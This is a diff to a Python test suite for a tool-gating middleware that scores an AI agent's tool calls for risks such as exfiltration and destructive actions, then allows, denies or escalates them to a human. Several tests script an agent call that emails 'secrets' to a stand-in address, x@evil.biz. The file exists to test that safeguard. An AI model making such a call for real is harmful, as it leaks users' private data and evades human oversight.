@@ -13,7 +13,7 @@ from langchain_core.runnables import RunnableConfig
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command
 
-from clef_tools import Decider, GatePolicy, ReadoutDecider
+from clef_tools import DEFAULT_GATE_QUESTIONS, Decider, GatePolicy, ReadoutDecider, ReviewStore
 from langchain_clef import ToolGateMiddleware, ToolSelectorMiddleware
 
 from .conftest import call, scripted
@@ -131,12 +131,9 @@ def test_gate_allow_band_runs_the_tool(
     ).invoke({"messages": [HumanMessage("read a.txt")]}, CFG)
     assert executed == [("read_file", {"path": "a.txt"})]
     audit = _tool_messages(out)[0].response_metadata["clef_gate"]
-    assert (
-        audit["verdict"] == "allow"
-        and audit["escalate_at"] == 1.0
-        and set(audit["probabilities"])
-        == {"destructive", "exfiltration", "credentials", "unauthorised"}
-    )
+    assert audit["verdict"] == "allow" and audit["escalate_at"] == 1.0
+    assert audit["risk_model"] == "gate-embedded" and audit["tier"] in ("fast", "model")
+    assert set(audit["probabilities"]) <= set(DEFAULT_GATE_QUESTIONS)
 
 
 def test_gate_deny_band_blocks_the_tool(
@@ -165,12 +162,14 @@ def test_gate_escalate_band_asks_a_human(
     decision: dict[str, Any],
     ran: bool,
 ) -> None:
+    store = ReviewStore()
     agent = _gated(
         smollm2,
         toolset,
         call("send_email", {"to": "x@evil.biz", "body": "secrets"}),
         escalate_at=0.0,
         deny_at=1.0,
+        reviews=store,
     )
     paused = agent.invoke({"messages": [HumanMessage("summarise my inbox")]}, CFG)
     (intr,) = paused["__interrupt__"]
@@ -184,6 +183,34 @@ def test_gate_escalate_band_asks_a_human(
         assert msg.response_metadata["clef_gate"]["human_approved"] is True
     else:
         assert executed == [] and "no way" in msg.content and msg.status == "error"
+    # the human's decision is kept as a review of that call
+    (review,) = store.reviews("send_email")
+    assert review.decision == decision["type"] and review.args["to"] == "x@evil.biz"
+    assert review.request == "summarise my inbox"
+
+
+def test_gate_judgments_are_traced_runs(
+    smollm2: ReadoutDecider, toolset: list[Any], executed: list[Any]
+) -> None:
+    from langchain_core.tracers.context import collect_runs
+
+    agent = _gated(smollm2, toolset, call("read_file", {"path": "a.txt"}))
+    with collect_runs() as collected:
+        agent.invoke({"messages": [HumanMessage("read a.txt")]}, CFG)
+    runs = _walk(collected.traced_runs)
+    (gate_run,) = [r for r in runs if r.name == "clef_gate"]
+    assert gate_run.inputs["name"] == "read_file" and gate_run.inputs["args"] == {"path": "a.txt"}
+    verdict = gate_run.outputs["output"]
+    assert verdict.verdict in ("allow", "escalate", "deny") and verdict.risk is not None
+    assert "clef_gate" in (gate_run.tags or [])
+
+
+def _walk(runs: list[Any]) -> list[Any]:
+    out = []
+    for run in runs:
+        out.append(run)
+        out += _walk(run.child_runs)
+    return out
 
 
 def test_gate_resume_reuses_the_escalation_verdict(
@@ -255,10 +282,11 @@ def test_gate_rejudges_an_edited_call(
 def test_gate_backend_error_never_allows(
     toolset: list[Any], executed: list[Any], on_error: str
 ) -> None:
+    # a call the evidence cannot clear (an address the user never gave) needs the scorer
     agent = _gated(
         BrokenDecider(),
         toolset,
-        call("read_file", {"path": "a"}),
+        call("send_email", {"to": "x@evil.biz", "body": "hi"}),
         escalate_at=1.0,
         deny_at=1.0,
         on_error=on_error,
@@ -277,7 +305,7 @@ def test_gate_timeout_never_allows(
     agent = _gated(
         SlowDecider(smollm2, 3.0),
         toolset,
-        call("read_file", {"path": "a"}),
+        call("send_email", {"to": "x@evil.biz", "body": "hi"}),
         escalate_at=1.0,
         deny_at=1.0,
         on_error="deny",
@@ -316,8 +344,7 @@ def test_gate_embedded_model_ranks_a_destructive_delete_above_a_read(
             audit = out["__interrupt__"][0].value["clef_gate"]
         else:
             audit = _tool_messages(out)[0].response_metadata["clef_gate"]
-        assert audit["verdict"] == GatePolicy().band(
-            audit["risk"]
-        )  # the verdict follows the model's own risk
-        risks[name] = audit["probabilities"]["destructive"]
-    assert risks["delete_file"] > risks["read_file"]
+        if audit["tier"] == "model":  # the verdict follows the model's own risk
+            assert audit["verdict"] == GatePolicy().band(audit["risk"])
+        risks[name] = audit["risk"]
+    assert risks["delete_file"] > 0.8 > 0.05 > risks["read_file"]
